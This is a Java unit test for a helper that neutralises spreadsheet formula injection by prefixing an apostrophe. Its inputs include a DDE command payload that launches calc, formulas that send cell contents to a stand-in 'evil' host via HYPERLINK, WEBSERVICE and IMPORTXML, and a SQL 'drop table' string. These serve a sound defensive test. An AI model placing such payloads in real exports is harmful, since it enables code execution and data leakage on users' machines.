package io.quittance.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Security numbers 55 to 58 in texts that we write for spreadsheets (OWASP ASVS 1.2.10). */
class SpreadsheetTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1",
                "\n=1",
                "\u0000=1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(A1)",
                "=HYPERLINK(\"http://evil/\"&A1)",
                "=WEBSERVICE(\"http://evil\")",
                "=IMPORTXML(\"http://evil\",\"//a\")"
            })
    void whatCouldRunGetsAnApostropheAndLosesItAgain(String text) {
        String guarded = SpreadsheetText.guarded(text);
        assertThat(guarded).isEqualTo("'" + text);
        assertThat(SpreadsheetText.guarded(guarded)).as("once is enough").isEqualTo(guarded);
        assertThat(SpreadsheetText.unguarded(guarded)).isEqualTo(text);
    }

    @Test
    void everyOtherTextIsLeftAlone() {
        for (String text :
                new String[] {"", "'", "''=1", "'t Hooft", "'; drop table x", "\"=1\"", "1+1", "Ana", "(1.00)"}) {
            assertThat(SpreadsheetText.guarded(text)).isEqualTo(text);
            assertThat(SpreadsheetText.unguarded(text)).isEqualTo(text);
        }
    }
}
